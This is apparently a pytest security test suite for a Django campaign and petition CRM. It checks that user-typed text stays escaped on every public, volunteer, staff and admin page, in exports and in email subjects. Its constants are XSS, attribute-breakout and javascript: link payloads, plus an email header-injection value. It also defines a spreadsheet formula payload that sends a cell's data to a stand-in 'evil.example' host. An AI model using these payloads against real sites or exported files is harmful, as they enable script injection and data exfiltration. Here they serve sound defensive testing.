"""Whatever people type stays text, in every context a page puts it: element content, an
attribute value, a <meta> content, a link's address, a <textarea>, a page title.

A world is filled with hostile strings (every text field of every model of ours gets one), then
every page a visitor, a volunteer and an administrator can open (the Django admin included) is
requested and parsed with the standard library's HTML parser: no hostile string may have made
an element, an attribute (an event handler, an http-equiv refresh) or a javascript: link.
"""

import contextlib
import re
import tempfile
from dataclasses import dataclass, field
from datetime import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib import admin
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.db import models, transaction
from django.test import override_settings
from django.urls import NoReverseMatch, reverse

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

# Each breaks out of a different context when it is not escaped for that context.
TAG = '"><script>alert(1)</script>'
REFRESH = '0;url=http://evil" http-equiv="refresh" data-x="'
SINGLE = "' onmouseover='alert(1)"
TEXTAREA = "</textarea></title><script>alert(1)</script>"
TEMPLATE = "{{ 7*7 }}"
JAVASCRIPT = "javascript:alert(1)"
# One string carries them all, so one crawl tries every context; the breaker of a meta
# content comes first, so a field too short for the whole still carries it.
HOSTILE = f"{REFRESH}{SINGLE}{TAG}{TEXTAREA} {TEMPLATE}"
# For a short field (a postal code, a phone as typed): out of either quote, an element.
SHORT = "\"'><i onclick=1>"
# Where Markdown is read, a link to javascript: too.
HOSTILE_TEXT = f"{HOSTILE} [lien]({JAVASCRIPT}) <a href='{JAVASCRIPT}'>a</a>"

# Attributes whose value a browser follows or runs.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
# Text fields a person does not type: keys, digests, numbers in a canonical form, codes that
# pages look up. Everything else gets a hostile string.
MACHINE_FIELDS = {
    "password",
    "digest",
    "prefix",
    "secret",
    "identity_key",
    "first_name_key",
    "last_name_key",
    "commune_key",
    "e164",
    "sms_blocked",
    "key",
    "sid",
    "source_key",
    "metric",
    "provider",
    "provider_txn_id",
    "session_hash",
}


@dataclass
class Findings:
    """What a page's parse found that no template writes."""

    problems: list[str] = field(default_factory=list)
    texts: list[str] = field(default_factory=list)  # every text node, for "shown as typed"
    metas: dict[str, str] = field(default_factory=dict)
    values: list[str] = field(default_factory=list)  # every attribute value

    def shows(self, text: str) -> bool:
        """Whether the page holds this text as typed, as content or as one attribute value."""
        return text in "".join(self.texts) or text in self.values


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found = Findings()
        self.script: str | None = None  # the open <script>'s type, while inside one

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            self.found.values.append(value)
            if name.startswith("on"):
                self.found.problems.append(f"<{tag} {name}={value!r}>: an event handler")
            if name in ("http-equiv", "data-x"):
                self.found.problems.append(f"<{tag} {name}={value!r}>: out of an attribute")
            if name in URL_ATTRIBUTES and _runs_script(value):
                self.found.problems.append(f"<{tag} {name}={value!r}>: a script link")
        if tag == "script":
            self.script = dict(attrs).get("type") or "text/javascript"
        if tag == "meta":
            named = dict(attrs)
            key = named.get("name") or named.get("property")
            if key:
                self.found.metas[key] = named.get("content") or ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.script = None

    def handle_data(self, data: str) -> None:
        if self.script is not None and "alert(" in data and self.script != "application/json":
            self.found.problems.append(f"<script>{data[:60]!r}: a script from data")
        if self.script is None:
            self.found.texts.append(data)


def _runs_script(url: str) -> bool:
    """What a browser reads as javascript: (it drops control characters and spaces first)."""
    squeezed = "".join(c for c in url if c > " ").lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:text/html"))


def inspect(html: str) -> Findings:
    parser = Inspector()
    parser.feed(html)
    parser.close()
    found = parser.found
    # Escaped twice: what a person typed reaches the page as "&quot;" for them to read.
    for double in ("&amp;quot;", "&amp;lt;", "&amp;gt;", "&amp;#x27;", "&amp;#39;"):
        if double in html:
            at = html.index(double)
            found.problems.append(f"{html[max(0, at - 60) : at + 20]!r}: escaped twice")
    return found


def our_models():
    for config in apps.get_app_configs():
        if config.name.split(".")[0] in ("campaign", "contacts", "actions"):
            yield from config.get_models()


def make_hostile(long: str = HOSTILE, short: str = SHORT, text: str = HOSTILE_TEXT) -> None:
    """Every text field a person types, in every row of our models, becomes hostile."""
    for model in our_models():
        values = {}
        unique = {name for names in model._meta.unique_together for name in names}
        for constraint in model._meta.constraints:
            unique |= set(getattr(constraint, "fields", ()))
        for f in model._meta.concrete_fields:
            if not isinstance(f, models.CharField | models.TextField) or f.choices:
                continue
            if f.primary_key or f.unique or f.name in unique | MACHINE_FIELDS:
                continue
            if isinstance(f, models.SlugField | models.EmailField):
                continue
            if isinstance(f, models.URLField):
                values[f.name] = JAVASCRIPT
            elif isinstance(f, models.TextField):
                values[f.name] = text
            elif f.max_length is None or f.max_length >= len(long):
                values[f.name] = long
            elif f.max_length >= len(REFRESH):
                values[f.name] = long[: f.max_length]
            elif f.max_length >= len(short):
                values[f.name] = short
        if values:
            model._default_manager.update(**values)
    from contacts.models import Tag

    for tag in Tag.objects.all():  # unique: one hostile name each
        tag.name = f"{long[:40]}{tag.pk}"
        tag.save(update_fields=["name"])


@pytest.fixture(scope="module")
def hostile_world(django_db_setup, django_db_blocker):
    """The demo campaign, every text in it hostile, once for the module (it is read only)."""
    from campaign.models import User

    media = tempfile.TemporaryDirectory()
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=media.name), media:
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            call_command("seed_demo", contacts=60, verbosity=0)
            _extra_objects()
            make_hostile()
            yield User.objects.get(username="admin")
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


def _extra_objects() -> None:
    """What the demo does not make but a page shows: a draft blast, an import, a duplicate
    pair, a token, a webhook with a failed delivery, a signature awaiting confirmation."""
    from actions.petitions.models import Petition, Signature
    from actions.sms.models import Blast
    from campaign.models import ApiToken, User
    from campaign.webhooks.models import Delivery, Webhook
    from contacts.imports.services import contact_import_create
    from contacts.models import Contact, DuplicateCandidate, ImportJob, Segment

    admin_user = User.objects.get(username="admin")
    Blast.objects.create(
        name="x",
        body="Bonjour {prenom}",
        segment=Segment.objects.first(),
        quiet_start=time(21),
        quiet_end=time(9),
    )
    ImportJob.objects.create(  # a finished one, and one to check: its columns are the file's
        file="imports/x.csv", original_name="x.csv", source_detail="x", status="done"
    )
    quoted = HOSTILE.replace('"', '""')  # a CSV cell: its quotes doubled
    contact_import_create(
        actor=admin_user,
        file=ContentFile(f'email,"{quoted}"\nx@example.org,"{quoted}"\n'.encode()),
        original_name="x.csv",
    )
    a, b = Contact.objects.order_by("pk")[:2]
    DuplicateCandidate.objects.create(contact_a=a, contact_b=b, reason="email")
    ApiToken.objects.create(user=admin_user, name="x", prefix="abcd", digest="0" * 64)
    webhook = Webhook.objects.create(url="https://example.org/hook", events=["person.created"])
    Delivery.objects.create(webhook=webhook, event="person.created", payload={}, error="x")
    first = Signature.objects.order_by("pk").first()
    Signature.objects.filter(pk=first.pk).update(confirmed_at=None)
    Petition.objects.filter(pk=first.petition_id).update(double_opt_in=True)


def known_arguments() -> dict[str, dict[str, object]]:
    """A URL parameter's value by namespace: the objects of the hostile world (the
    volunteer's own turf and conversation, so their mission pages open)."""
    from actions.canvassing.models import CanvassCampaign, Door, Turf
    from actions.donations.models import Donation, Drive
    from actions.petitions.emails import confirmation_token
    from actions.petitions.models import Signature
    from actions.sms.models import Blast, Conversation, P2PCampaign
    from campaign.models import User
    from contacts.models import DuplicateCandidate, ImportJob, Segment

    def pk(queryset) -> int:
        return queryset.order_by("pk").values_list("pk", flat=True).first()

    volunteer = User.objects.get(username="benevole")
    pending = Signature.objects.filter(confirmed_at=None).select_related("petition").first()
    turf = pk(Turf.objects.filter(volunteers=volunteer))
    busy = Signature.objects.values_list("contact_id", flat=True)
    return {
        "contacts": {
            "segment_id": pk(Segment.objects),
            "candidate_id": pk(DuplicateCandidate.objects),
            "job_id": pk(ImportJob.objects.filter(status="draft")),
            "contact_id": busy[0],
        },
        "petitions": {
            "petition_id": pending.petition_id,
            "slug": pending.petition.slug,
            "token": confirmation_token(pending),
        },
        "sms": {
            "campaign_id": pk(P2PCampaign.objects),
            "blast_id": pk(Blast.objects),
            "conversation_id": pk(Conversation.objects.filter(volunteer=volunteer)),
        },
        "canvassing": {
            "campaign_id": pk(CanvassCampaign.objects),
            "turf_id": turf,
            "door_id": pk(Door.objects.filter(turf_id=turf)),
        },
        "funnel": {"what": "sources"},
        "donations": {
            "slug": Drive.objects.order_by("pk").first().slug,
            "donation_id": pk(Donation.objects),
            "drive_id": pk(Drive.objects),
        },
    }


def page_urls(rules: set[str]) -> list[str]:
    """Every page of ours under these access rules whose parameters name an object of the
    hostile world (JSON APIs and webhooks aside)."""
    from campaign.permissions import access_rule_of
    from tests.campaign.test_access import routes

    known = known_arguments()
    urls = []
    for entry, _route, name in routes():
        namespace = name.split(":")[0] if ":" in name else ""
        if access_rule_of(entry.callback) not in rules or namespace == "api":
            continue
        kwargs = {}
        for key in entry.pattern.converters:
            kwargs[key] = known.get(namespace, {}).get(key)
        if None in kwargs.values():
            continue
        with contextlib.suppress(NoReverseMatch):  # a route with a regex part
            urls.append(reverse(name, kwargs=kwargs))
    return sorted(set(urls))


def busy_contacts() -> list[str]:
    """A signer, a donor, a door knocked, a texter: their pages show each kind of row."""
    from actions.canvassing.models import Visit
    from actions.donations.models import Donation
    from actions.petitions.models import Signature
    from actions.sms.models import Inbound

    people = (
        Signature.objects.values_list("contact_id", flat=True).first(),
        Donation.objects.values_list("contact_id", flat=True).first(),
        Visit.objects.exclude(contact=None).values_list("contact_id", flat=True).first(),
        Inbound.objects.exclude(contact=None).values_list("contact_id", flat=True).first(),
    )
    pages = [reverse("contacts:detail", args=[pk]) for pk in people if pk]
    return pages + [f"{reverse('donations:new')}?contact={people[0]}"]


def admin_urls() -> list[str]:
    """The Django admin's list and first object of every model it shows."""

    urls = []
    for model in admin.site._registry:
        prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        urls.append(reverse(f"{prefix}_changelist"))
        first = model._default_manager.order_by("pk").values_list("pk", flat=True).first()
        if first is not None:
            urls.append(reverse(f"{prefix}_change", args=[first]))
    return urls


def crawl(client, urls: list[str]) -> tuple[dict[str, list[str]], set[str]]:
    """Each HTML page's problems by URL (a page that fails is one), and the pages read."""
    problems, read = {}, set()
    for url in urls:
        response = client.get(url)
        if response.status_code >= 500:
            problems[url] = [f"answered {response.status_code}"]
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        read.add(url)
        found = inspect(response.content.decode())
        if found.problems:
            problems[url] = found.problems
    return problems, read


def test_no_hostile_text_escapes_on_any_public_page(hostile_world, client):
    known = known_arguments()

    problems, read = crawl(client, page_urls({"public"}))

    assert problems == {}
    assert {
        reverse("petitions:page", args=[known["petitions"]["slug"]]),
        reverse("petitions:embed", args=[known["petitions"]["slug"]]),
        reverse("petitions:thanks", args=[known["petitions"]["slug"]]),
        reverse("donations:page", args=[known["donations"]["slug"]]),
    } <= read


def test_no_hostile_text_escapes_on_any_volunteer_page(hostile_world, client):
    from campaign.models import User

    client.force_login(User.objects.get(username="benevole"))
    known = known_arguments()

    problems, read = crawl(client, page_urls({"login"}))

    assert problems == {}
    assert {
        reverse("home"),
        reverse("sms:mission", args=[known["sms"]["campaign_id"]]),
        reverse("sms:conversation", args=[known["sms"]["conversation_id"]]),
        reverse("canvassing:walk", args=[known["canvassing"]["turf_id"]]),
    } <= read


def test_no_hostile_text_escapes_on_any_staff_page(hostile_world, client):
    client.force_login(hostile_world)
    urls = page_urls({"crm", "admin", "login"}) + busy_contacts()

    problems, read = crawl(client, urls)

    assert problems == {}
    assert len(read) >= 30
    assert set(busy_contacts()) <= read


def test_no_hostile_text_escapes_in_the_django_admin(hostile_world, client):
    client.force_login(hostile_world)

    problems, read = crawl(client, admin_urls())

    assert problems == {}
    assert len(read) == len(admin_urls())


class FormReader(HTMLParser):
    """The fields of a page's forms sent by this method, as a browser would send them with
    every text box holding a hostile string (choices keep their first value, hidden fields
    theirs)."""

    TYPED = {"text", "email", "tel", "url", "search", "number", "date", "time", "password"}

    def __init__(self, method: str = "post") -> None:
        super().__init__(convert_charrefs=True)
        self.method = method
        self.forms: list[dict[str, str] | None] = []
        self.select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {key: value or "" for key, value in attrs}
        if tag == "form":
            method = named.get("method", "get").lower()
            self.forms.append({} if method == self.method else None)
        form = self.forms[-1] if self.forms else None
        if form is None or "name" not in named:
            if tag == "option" and form is not None and self.select:
                form.setdefault(self.select, named.get("value", ""))
            return
        name = named["name"]
        if tag == "textarea" or (tag == "input" and named.get("type", "text") in self.TYPED):
            form[name] = HOSTILE
        elif tag == "input" and named.get("type") in ("checkbox", "radio"):
            if "checked" in named:
                form[name] = named.get("value", "on")
        elif tag == "input" and named.get("type") not in ("submit", "button", "file"):
            form[name] = named.get("value", "")
        elif tag == "select":
            self.select = name

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self.select = None
        if tag == "form":
            self.forms.append(None)  # fields after it belong to no form


FORMS = [  # (who, page, its parameters among known_arguments())
    ("admin", "contacts:create", ()),
    ("admin", "contacts:edit", ("contact_id",)),
    ("admin", "contacts:segment_new", ()),
    ("admin", "contacts:segment_edit", ("segment_id",)),
    ("admin", "petitions:staff_new", ()),
    ("admin", "petitions:staff_edit", ("petition_id",)),
    ("admin", "sms:new", ()),
    ("admin", "sms:edit", ("blast_id",)),
    ("admin", "sms:p2p_new", ()),
    ("admin", "sms:p2p_edit", ("campaign_id",)),
    ("admin", "canvassing:new", ()),
    ("admin", "canvassing:edit", ("campaign_id",)),
    ("admin", "donations:drive_new", ()),
    ("admin", "donations:drive_edit", ("drive_id",)),
    ("benevole", "canvassing:door", ("turf_id", "door_id")),
    ("benevole", "sms:conversation", ("conversation_id",)),
]


@pytest.mark.parametrize(("who", "name", "keys"), FORMS)
def test_a_form_sent_back_with_hostile_text_shows_it_as_text(
    hostile_world, client, who, name, keys
):
    """Refused (or kept): either way the page that follows shows what was typed, inert."""
    from campaign.models import User

    client.force_login(User.objects.get(username=who))
    known = known_arguments()[name.split(":")[0]]
    url = reverse(name, kwargs={key: known[key] for key in keys})
    reader = FormReader()
    reader.feed(client.get(url).content.decode())
    form = max((f for f in reader.forms if f), key=len)

    response = client.post(url, form, follow=True)

    assert response.status_code == 200  # the form again with its errors, or the page after
    found = inspect(response.content.decode())
    assert found.problems == []
    assert found.shows(HOSTILE)


# Pages of one hostile petition, without the demo world: the holes found first.


@pytest.fixture
def hostile_petition(db):
    from actions.petitions.models import Petition

    return Petition.objects.create(
        slug="hostile",
        title=HOSTILE,
        target=HOSTILE,
        text=HOSTILE_TEXT,
        image_alt=HOSTILE,
        consent_email=HOSTILE_TEXT,
        data_controller=HOSTILE,
        questions=[{"label": HOSTILE, "required": False}],
        status=Petition.Status.PUBLISHED,
    )


def test_a_petition_text_cannot_add_a_refresh_to_the_page_meta_description(client):
    from actions.petitions.models import Petition

    Petition.objects.create(
        slug="refresh", title="Eau", text=REFRESH, status=Petition.Status.PUBLISHED
    )

    found = inspect(client.get(reverse("petitions:page", args=["refresh"])).content.decode())

    assert found.problems == []
    assert found.metas["description"] == REFRESH  # one attribute's value, as typed
    assert found.metas["og:description"] == REFRESH


def test_a_petition_meta_description_is_its_first_words_without_markup(client):
    from actions.petitions.models import Petition

    Petition.objects.create(
        slug="eau",
        title="Eau",
        text="L'eau **publique** & [gratuite](https://example.org) " + "mot " * 40,
        status=Petition.Status.PUBLISHED,
    )

    found = inspect(client.get(reverse("petitions:page", args=["eau"])).content.decode())

    assert found.metas["description"] == "L'eau publique & gratuite " + "mot " * 25 + "mot…"


@pytest.mark.parametrize("page", ["petitions:page", "petitions:embed", "petitions:thanks"])
def test_hostile_petition_fields_stay_text_on_public_pages(hostile_petition, client, page):
    found = inspect(client.get(reverse(page, args=["hostile"])).content.decode())

    assert found.problems == []
    assert HOSTILE in found.texts  # shown as typed: nothing evaluated, nothing escaped twice


def test_hostile_petition_fields_stay_text_on_the_confirmation_page(hostile_petition, client):
    from actions.petitions.emails import confirmation_token
    from contacts import services as contact_services
    from contacts.models import Source

    contact = contact_services.contact_create(actor=None, source=Source.PETITION, first_name="A")
    signature = hostile_petition.signatures.create(contact=contact)
    url = reverse("petitions:confirm", args=["hostile", confirmation_token(signature)])

    found = inspect(client.get(url).content.decode())

    assert found.problems == []
    assert HOSTILE in found.texts


def test_a_next_step_link_that_is_not_a_web_address_is_not_a_link(client):
    """The form refuses it; one written another way (the shell, an old row) is still inert."""
    from actions.petitions.models import Petition

    Petition.objects.create(
        slug="suite",
        title="Eau",
        text="…",
        status=Petition.Status.PUBLISHED,
        next_step=Petition.NextStep.DONATE,
        next_step_url=JAVASCRIPT,
    )

    found = inspect(client.get(reverse("petitions:thanks", args=["suite"])).content.decode())

    assert found.problems == []


def test_a_petition_text_cannot_hand_a_link_to_the_visitors_query_string(client):
    """The cached page is filled per visitor at markers; text an organizer typed is no
    marker, so a link in it cannot become what ?utm_source= says (a javascript: link)."""
    from actions.petitions.models import Petition

    text = " ".join(
        f"[lien](terrain-slot-{name}-7f3a) terrain-slot-{name}-7f3a"
        for name in ("utm_source", "referrer", "language_next", "csrf_token")
    )
    Petition.objects.create(slug="piege", title="Eau", text=text, status=Petition.Status.PUBLISHED)
    url = reverse("petitions:page", args=["piege"])

    response = client.get(url, {"utm_source": JAVASCRIPT}, HTTP_REFERER=JAVASCRIPT)

    found = inspect(response.content.decode())
    assert found.problems == []
    assert found.shows("terrain-slot-utm_source-7f3a")  # the organizer's text, as typed
    assert {
        name: value for name, value in hidden_fields(response) if name in ("utm_source", "referrer")
    } == {"utm_source": JAVASCRIPT, "referrer": JAVASCRIPT}


def hidden_fields(response) -> list[tuple[str, str]]:
    reader = FormReader()
    reader.feed(response.content.decode())
    return [(k, v) for form in reader.forms if form for k, v in form.items()]


def test_a_refused_signature_shows_what_was_typed_as_text(hostile_petition, client):
    typed = {"first_name": HOSTILE, "last_name": HOSTILE, "email": HOSTILE, "phone": HOSTILE}
    typed |= {"postal_code": HOSTILE, "question_0": HOSTILE, "referrer": HOSTILE}

    response = client.post(reverse("petitions:page", args=["hostile"]), typed)

    assert response.status_code == 400
    found = inspect(response.content.decode())
    assert found.problems == []
    assert found.shows(HOSTILE)


def test_a_drive_story_is_its_page_description_as_plain_text(client):
    from actions.donations.models import Drive, Entity

    entity = Entity.objects.create(name="Liste", kind=Entity.Kind.CANDIDATE, election="2026")
    Drive.objects.create(
        entity=entity, slug="don", title="Don", story=f"**Aidez** {REFRESH}", goal_cents=100
    )
    Drive.objects.filter(slug="don").update(status=Drive.Status.PUBLISHED)

    found = inspect(client.get(reverse("donations:page", args=["don"])).content.decode())

    assert found.problems == []
    assert found.metas["description"] == f"Aidez {REFRESH}"


def test_a_refused_gift_shows_what_was_typed_as_text(client):
    from actions.donations.models import Drive, Entity

    entity = Entity.objects.create(name=HOSTILE, kind=Entity.Kind.CANDIDATE, election=HOSTILE)
    Drive.objects.create(
        entity=entity,
        slug="don",
        title=HOSTILE,
        story=HOSTILE_TEXT,
        goal_cents=100_000,
        status=Drive.Status.PUBLISHED,
    )
    typed = dict.fromkeys(["first_name", "last_name", "email", "street", "commune"], HOSTILE)
    typed |= {"amount": "other", "other": HOSTILE, "postal_code": HOSTILE, "utm_source": HOSTILE}

    response = client.post(reverse("donations:page", args=["don"]), typed)

    found = inspect(response.content.decode())
    assert found.problems == []
    assert found.shows(HOSTILE)


def test_the_confirmation_email_subject_is_the_title_as_typed(hostile_petition, mailoutbox):
    from actions.petitions.tasks import petition_send_confirmation
    from contacts import services as contact_services
    from contacts.models import Source

    hostile_petition.title = 'Eau & "air"\nBcc: x@example.org'
    hostile_petition.save()
    contact = contact_services.contact_create(
        actor=None,
        source=Source.PETITION,
        first_name="Léa",
        emails=[contact_services.EmailInput(address="lea@example.fr")],
    )
    signature = hostile_petition.signatures.create(contact=contact)

    petition_send_confirmation(signature.pk)

    assert mailoutbox[0].subject.endswith('Eau & "air" Bcc: x@example.org')


# What a template may not write, read from the templates themselves.
TEMPLATES = sorted(ROOT.glob("templates/**/*.html"))
MARKUP_FILTER = re.compile(r"\|\s*(markdown_safe|safe|safeseq|striptags|urlize|linebreaks)\b")


def test_no_template_puts_markup_or_an_unescaped_value_in_an_attribute():
    """An attribute gets autoescaped text only: markup (or the text striptags leaves of it,
    quotes included) ends it early, and an unquoted value ends at the first space."""
    wrong = []
    for template in TEMPLATES:
        source = template.read_text()
        for tag in re.findall(r"<[a-zA-Z][^<>]*>", source):
            for value in re.findall(r"\{\{[^}]*\}\}", tag):
                if MARKUP_FILTER.search(value):
                    wrong.append((template.name, tag))
            if re.search(r"\s[\w:-]+=\{\{", tag):
                wrong.append((template.name, tag))
    assert wrong == []


def test_only_plain_text_emails_turn_autoescape_off():
    """Autoescape off is right for a text/plain email (no &amp; for a reader to see), and
    wrong anywhere a browser reads the result."""
    off = [
        template.relative_to(ROOT).as_posix()
        for template in ROOT.glob("templates/**/*")
        if template.is_file() and "autoescape off" in template.read_text()
    ]
    assert all(name.endswith((".txt", "_email.html")) for name in off), off


# A spreadsheet is a context too: a cell that starts like a formula runs when opened.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_no_export_cell_starts_like_a_formula(hostile_world, client):
    import csv
    import io

    from openpyxl import load_workbook

    make_hostile(long=FORMULA, short="=1+1", text=FORMULA)
    client.force_login(hostile_world)
    exports = [u for u in page_urls({"crm", "admin"}) if u.endswith((".csv", ".xlsx"))]

    cells = {}
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if url.endswith(".xlsx"):
            sheet = load_workbook(io.BytesIO(content)).active
            cells[url] = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        else:
            rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
            # A phone number in E.164 (+33612345678) runs nothing: the other tools' import
            # formats keep it clean for their importers.
            cells[url] = [
                c
                for row in rows
                for c in row
                if c.startswith(("=", "+", "@")) and not re.fullmatch(r"\+\d{6,15}", c)
            ]

    assert {url: found for url, found in cells.items() if found} == {}
    assert len(exports) >= 5


# Query parameters pages read (filters, paging, return addresses, tracking), beyond the
# fields of their own GET forms: a page that shows one back must show it as text.
QUERY_NAMES = [
    "q",
    "campaign",
    "contact",
    "entity",
    "filter",
    "kind",
    "level",
    "next",
    "page",
    "petition",
    "result",
    "show",
    "status",
    "tag",
    "territory",
    "turf",
    "volunteer",
    "within",
    "year",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "referrer",
]


def test_hostile_query_parameters_stay_text_on_every_page(hostile_world, client):
    client.force_login(hostile_world)
    client.raise_request_exception = False  # a 500 is one more finding
    urls = page_urls({"public", "crm", "admin", "login"}) + busy_contacts()

    problems, tried = {}, 0
    for url in urls:
        response = client.get(url)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        reader = FormReader(method="get")
        reader.feed(response.content.decode())
        names = set(QUERY_NAMES) | {name for form in reader.forms if form for name in form}
        response = client.get(url, dict.fromkeys(names, HOSTILE))
        tried += 1
        if response.status_code >= 500:
            problems[url] = [f"answered {response.status_code}"]
        elif "html" in response.get("Content-Type", ""):
            problems[url] = inspect(response.content.decode()).problems
    assert {url: found for url, found in problems.items() if found} == {}
    assert tried >= 40
